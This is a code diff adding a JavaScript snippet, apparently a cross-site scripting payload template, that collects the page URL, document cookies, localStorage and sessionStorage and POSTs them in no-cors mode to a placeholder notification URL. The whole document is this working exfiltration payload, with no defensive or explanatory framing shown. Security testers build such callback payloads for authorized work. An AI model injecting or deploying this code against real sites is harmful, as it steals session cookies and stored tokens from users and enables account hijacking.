@@ -0,0 +1,20 @@
+// Sends readable cookies and the contents of localStorage and sessionStorage.
+(function () {
+  var notify = {{notify_url}};
+  function dump(storage) {
+    var out = {};
+    try {
+      for (var i = 0; i < storage.length; i++) {
+        var key = storage.key(i);
+        out[key] = storage.getItem(key);
+      }
+    } catch (e) {}
+    return JSON.stringify(out);
+  }
+  var data = new URLSearchParams();
+  data.append("url", location.href);
+  data.append("cookies", document.cookie);
+  data.append("local_storage", dump(window.localStorage));
+  data.append("session_storage", dump(window.sessionStorage));
+  fetch(notify, { method: "POST", mode: "no-cors", body: data });
+})();